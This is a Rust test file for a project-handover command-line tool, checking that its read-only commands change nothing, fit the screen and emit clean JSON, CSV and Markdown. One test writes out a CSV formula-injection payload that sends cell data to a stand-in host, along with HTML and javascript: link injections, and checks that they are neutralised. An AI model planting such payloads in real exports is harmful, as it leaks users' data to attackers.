//! The commands that read: they leave the tree as it was, fit the screen, and hand out clean data.

use crate::support::runner::{NOW, Output, Runner};
use crate::support::small::Small;
use handover::files::load::load_project;
use handover::model::clock::parse_moment;
use handover::model::standing::State;
use handover::screen::item::{render_card, render_show};
use handover::text::Lang;
use handover::text::look::Look;
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::SystemTime;
use unicode_width::UnicodeWidthStr;

/// The complete projects of `examples/`, with the language each is written in.
const EXAMPLES: [(&str, &str); 3] = [("store-agency", "en"), ("客服中心交接", "zh-CN"), ("billing-software", "en")];

/// Every way to ask without changing anything.
fn reading_commands() -> Vec<Vec<&'static str>> {
    let mut commands: Vec<Vec<&str>> = vec![
        vec!["--help"],
        vec!["status", "--help"],
        vec!["check"],
        vec!["check", "--no-input"],
        vec!["check", "--all", "--due", "permissions"],
        vec!["check", "--as", "lin"],
        vec!["explain"],
        vec!["explain", "no-due"],
        vec!["show", "account-review"],
        vec!["show", "permissions/account-review"],
        vec!["next"],
        vec!["next", "--as", "lin", "--all", "--limit", "2"],
        vec!["next", "--party", "receiver", "--format", "json"],
        vec!["status", "--timeline"],
        vec!["status", "--timeline", ".", "../客服中心交接"],
        vec!["status", "--timeline", "--format", "md"],
        vec!["status", "."],
        vec!["status", ".."],
        vec!["status", ".", "../客服中心交接"],
    ];
    for by in ["section", "party", "person", "due"] {
        for format in ["text", "json", "csv", "md"] {
            commands.push(vec!["status", "--by", by, "--format", format]);
        }
    }
    commands
}

/// Fields of an item that leave nothing to be filled in.
const FILLED_IN: &str = "owner = [\"lin\"]\ndue = \"cutover\"\naccept_when = \"it is there\"";

/// A folder with copies of all examples.
fn examples() -> Runner {
    let runner = Runner::new();
    for (name, _) in EXAMPLES {
        runner.copy_example(name);
    }
    runner
}

/// When each file and folder was last written.
fn times(root: &Path) -> BTreeMap<PathBuf, SystemTime> {
    let entries = walkdir::WalkDir::new(root).into_iter().map(Result::unwrap);
    entries.map(|entry| (entry.path().to_owned(), entry.metadata().unwrap().modified().unwrap())).collect()
}

#[test]
fn reading_commands_leave_the_tree_byte_for_byte_as_it_was() {
    let runner = examples();
    let (before, written) = (runner.snapshot(), times(runner.root()));
    for command in reading_commands() {
        for (example, _) in EXAMPLES {
            let output = runner.run_in(example, &command);
            assert!([0, 1].contains(&output.code), "{command:?} in {example}: {output:?}");
            assert!(!output.out.is_empty(), "{command:?} in {example} says nothing");
        }
    }
    assert_eq!(runner.snapshot(), before);
    assert_eq!(times(runner.root()), written, "not even the times of files and folders change");
}

#[test]
fn reading_a_broken_project_leaves_it_as_it_was_too() {
    let runner = Small::new().item("deliverables/a", "", &["chen accepted"]).file("torn.toml", "section = ").write();
    let (before, written) = (runner.snapshot(), times(runner.root()));
    for command in reading_commands() {
        runner.run(&command);
    }
    assert_eq!((runner.snapshot(), times(runner.root())), (before, written));
}

#[test]
fn every_example_loads_without_a_finding_but_the_documented_one() {
    let runner = examples();
    let documented = [("store-agency", vec!["unresolved-due"]), ("客服中心交接", vec![]), ("billing-software", vec![])];
    for (example, documented) in documented {
        let report = json(&runner.run_in(example, &["status", "--format", "json"]));
        let codes: Vec<&str> =
            report["findings"].as_array().unwrap().iter().map(|found| found["code"].as_str().unwrap()).collect();
        assert_eq!(codes, documented, "{example}: {}", report["findings"]);
    }
}

#[test]
fn the_examples_show_every_state() {
    let runner = examples();
    // The third stands on the eve of its cutover: nothing of it is rejected, waived or not chosen any more.
    for (example, _) in &EXAMPLES[..2] {
        let report = json(&runner.run_in(example, &["status", "--format", "json"]));
        let states: Vec<&str> =
            report["items"].as_array().unwrap().iter().map(|item| item["state"].as_str().unwrap()).collect();
        for state in State::ALL {
            assert!(states.contains(&state.word()), "{example}: nothing is {}", state.word());
        }
        assert!(report["items"].as_array().unwrap().iter().any(|item| item["overdue"] == true), "{example}");
    }
}

#[test]
fn no_escape_codes_go_into_a_pipe_unless_asked_for() {
    let runner = examples();
    for command in reading_commands() {
        let output = runner.run_in("store-agency", &command);
        assert!(!output.out.contains('\u{1b}') && !output.err.contains('\u{1b}'), "{command:?}: {output:?}");
    }
    let asked = |arguments: &[&str]| runner.run_in("store-agency", arguments).out.contains('\u{1b}');
    assert!(asked(&["--color", "always", "status"]));
    assert!(asked(&["check", "--no-input", "--color", "always"]));
    assert!(!asked(&["--color", "never", "status"]));
    for format in ["json", "csv", "md"] {
        assert!(!asked(&["--color", "always", "status", "--format", format]), "data has no colours: {format}");
    }
    let refused = runner.env("NO_COLOR", "1").run_in("store-agency", &["status"]);
    assert!(!refused.out.contains('\u{1b}'));
}

#[test]
fn no_line_is_wider_than_the_screen() {
    let commands: [&[&str]; 6] = [
        &["status"],
        &["status", "--by", "due"],
        &["status", "--by", "person"],
        &["status", ".."],
        &["check"],
        &["next"],
    ];
    for columns in ["20", "32", "60", "80", "120"] {
        for lang in ["en", "zh-CN"] {
            let runner = examples().env("COLUMNS", columns).env("HANDOVER_LANG", lang);
            for (example, _) in EXAMPLES {
                for command in commands {
                    assert_fits(&runner.run_in(example, command).out, columns.parse().unwrap());
                }
            }
        }
    }
}

#[test]
fn no_line_of_an_item_is_wider_than_the_screen() {
    let runner = examples();
    for (example, _) in EXAMPLES {
        let loaded = load_project(&runner.path(example), parse_moment(NOW).unwrap()).unwrap();
        for (width, lang) in [60, 80, 120].into_iter().flat_map(|width| [(width, Lang::En), (width, Lang::Zh)]) {
            let look = Look { lang, width, color: false, ascii: false };
            for item in loaded.view.standings.positions() {
                assert_fits(&render_show(&loaded, item, &[], look), width);
                assert_fits(&render_card(&loaded.view, item, Some("lin"), look), width);
            }
        }
    }
}

#[test]
fn the_longest_words_do_not_widen_the_screen() {
    let (latin, wide) = ("x".repeat(150), "验".repeat(90));
    for word in [latin.as_str(), wide.as_str()] {
        let fields = ["details", "accept_when", "when", "system", "account", "due"];
        let fields: String = fields.iter().map(|field| format!("{field} = \"{word}\"\n")).collect();
        let fields = format!("{fields}owner = [\"{word}\"]\ntags = [\"{word}\"]\nextra = {{ key = \"{word}\" }}");
        let name = format!("permissions/{word}");
        let small = Small::new().item(&name, &fields, &[&format!("lin noted: {word}")]).item(
            "permissions/b",
            &format!("needs = [\"{word}\"]\nunder = \"{word}\""),
            &["chen granted"],
        );
        let small = small.file("own.toml", &format!("section = \"{word}\"\ntitle = \"{word}\"\n[[items]]\n"));
        for (columns, lang) in [("60", "en"), ("60", "zh-CN"), ("80", "en")] {
            let runner = small.write().env("COLUMNS", columns).env("HANDOVER_LANG", lang);
            for command in [&["status"][..], &["status", "--by", "due"], &["check"], &["show", "b"], &["show", &name]] {
                assert_fits(&runner.run(command).out, columns.parse().unwrap());
            }
        }
    }
}

#[track_caller]
fn assert_fits(text: &str, columns: usize) {
    assert!(!text.is_empty());
    for line in text.lines() {
        // What is never broken may be wider, on a line of its own.
        let line_alone = line.trim();
        let whole = line_alone.trim_start_matches(['(', '（']).starts_with('`')
            || line_alone.starts_with("--> ")
            || !line_alone.contains(' ') && line.contains(['/', ':', '@']);
        assert!(line.width() <= columns || whole, "{} columns of {columns} in\n{line}", line.width());
        assert_eq!(line, line.trim_end(), "spaces at the end");
    }
}

#[test]
fn columns_of_tables_begin_at_the_same_place_in_every_row() {
    for columns in ["60", "80", "120"] {
        for (lang, column) in [("en", "Progress"), ("zh-CN", "进度")] {
            let runner = examples().env("COLUMNS", columns).env("HANDOVER_LANG", lang);
            for (example, _) in EXAMPLES {
                let text = runner.run_in(example, &["status"]).out;
                let mut lines = text.lines().skip_while(|line| !line.contains(column));
                let head = lines.next().expect("a head");
                let start = head[..head.find(column).unwrap()].width();
                let rows: Vec<&str> = lines.skip(1).take_while(|line| !line.is_empty()).collect();
                assert!(rows.len() >= 6, "{text}");
                for row in rows {
                    assert!(has_gap_before(row, start), "{lang} at {columns}: {row:?} under {head:?}");
                }
            }
        }
    }
}

/// Whether a column begins at `start`: two spaces before it, or a row that is only going on.
fn has_gap_before(row: &str, start: usize) -> bool {
    let mut used = 0;
    let mut before = String::new();
    for c in row.chars() {
        if used >= start {
            break;
        }
        before.push(c);
        used += c.to_string().width();
    }
    used <= start && (before.ends_with("  ") || row.width() < start)
}

#[test]
fn json_has_the_documented_fields_and_states_in_english() {
    let runner = examples();
    for (example, lang) in EXAMPLES {
        let report = json(&runner.run_in(example, &["status", "--format", "json", "--lang", lang]));
        assert_eq!(report["schema"], "handover/status/1");
        let cutover = if example == "billing-software" { "2026-11-21" } else { "2026-11-30" };
        assert_eq!(report["project"]["milestones"]["cutover"], cutover);
        for field in ["id", "title"] {
            assert!(report["project"][field].is_string(), "{field}");
        }
        for section in report["sections"].as_array().unwrap() {
            assert!(section["section"].is_string() && section["title"].is_string());
            for field in ["items", "complete", "steps", "steps_made", "overdue"] {
                assert!(section[field].is_u64(), "{field} of {section}");
            }
        }
        let states = State::ALL.map(|state| state.word());
        for item in report["items"].as_array().unwrap() {
            assert!(item["item"].as_str().unwrap().contains('/') && item["title"].is_string());
            assert!(states.contains(&item["state"].as_str().unwrap()), "{item}");
            assert!(item["overdue"].is_boolean() && (item["due"].is_string() || item["due"].is_null()));
            if let Some(next) = item["next"].as_object() {
                assert!(next["did"].is_string() && next["people"].is_array() && next.contains_key("party"));
            }
        }
    }
    let owner = json(&runner.run_in("store-agency", &["status", "--format", "json"]));
    let owner =
        owner["items"].as_array().unwrap().iter().find(|item| item["item"] == "permissions/shop-owner").unwrap();
    let next = serde_json::json!({ "did": "revoked", "party": "giver", "people": ["lin"] });
    assert_eq!((&owner["state"], &owner["due"], &owner["next"]), (&"in progress".into(), &"2026-11-23".into(), &next));
}

#[test]
fn json_findings_say_what_and_where() {
    let small = Small::new().item("deliverables/a", FILLED_IN, &["lin delivered", "gu accepted"]);
    let report = json(&small.write().run(&["status", "--format", "json"]));
    let expected = serde_json::json!([{
        "code": "wrong-party", "severity": "error", "path": "deliverables.toml", "line": 11, "column": 3,
        "item": "deliverables/a", "field": "items[0].log[1]",
        "message": "`accepted` belongs to the receiver, but Gu Ning acts for the giver",
        "fix": false,
        "silenced": null,
    }]);
    assert_eq!(report["findings"], expected);
}

#[test]
fn several_projects_stand_side_by_side() {
    let runner = examples();
    for folders in [vec!["status", "billing-software", "store-agency", "客服中心交接"], vec!["status", "."]] {
        let report = json(&runner.run(&[&folders[..], &["--format", "json"]].concat()));
        assert_eq!(report["schema"], "handover/portfolio/1");
        let ids: Vec<&str> =
            report["projects"].as_array().unwrap().iter().map(|one| one["project"]["id"].as_str().unwrap()).collect();
        assert_eq!(ids, ["nordlicht-billing", "acme-store", "yuanxing-call-centre"]);
        let table = runner.run(&folders).out;
        assert!(table.contains("Acme flagship store") && table.contains("远行出行客服中心"), "{table}");
    }
}

#[test]
fn text_from_files_stays_text_in_csv_and_markdown() {
    let title = r#"=HYPERLINK("http://evil.example?x="&A1,"click") | <img src=x> [a](javascript:b)"#;
    let small = Small::new().file("deliverables.toml", &format!("section = \"deliverables\"\ntitle = '{title}'\n"));
    let runner = small
        .item("deliverables/a", "", &[])
        .file("x.toml", "section = \"x\"\ntitle = \"＝1+1\"\nitems = []\n")
        .write();
    let csv = runner.run(&["status", "--format", "csv"]).out;
    assert!(csv.contains("\"'=HYPERLINK(\"\"http") && csv.contains("'＝1+1"), "{csv}");
    let columns = csv.lines().next().unwrap().split(',').count();
    assert!(csv.lines().filter(|line| !line.contains('"')).all(|line| line.split(',').count() == columns), "{csv}");
    let markdown = runner.run(&["status", "--format", "md"]).out;
    assert!(!markdown.contains("<img") && !markdown.contains("[a]("), "{markdown}");
    let cells = |line: &str| line.replace("\\|", "").matches('|').count();
    assert!(markdown.lines().all(|line| cells(line) == 6), "{markdown}");
}

/// The JSON on standard output.
#[track_caller]
fn json(output: &Output) -> serde_json::Value {
    serde_json::from_str(&output.out).unwrap_or_else(|error| panic!("{error}: {output:?}"))
}

#[test]
fn a_handover_inside_a_handover_is_another_one() {
    let runner = Runner::new();
    let outer = runner.copy_example("store-agency");
    let inner = runner.copy_example("客服中心交接");
    let alone = runner.run(&["-C", "store-agency", "status", "--format", "csv"]).out;
    fs::rename(inner, outer.join("inner")).unwrap();
    assert_eq!(runner.run(&["-C", "store-agency", "status", "--format", "csv"]).out, alone);
    assert!(runner.run(&["-C", "store-agency/inner", "status"]).out.contains("远行出行客服中心"));
}
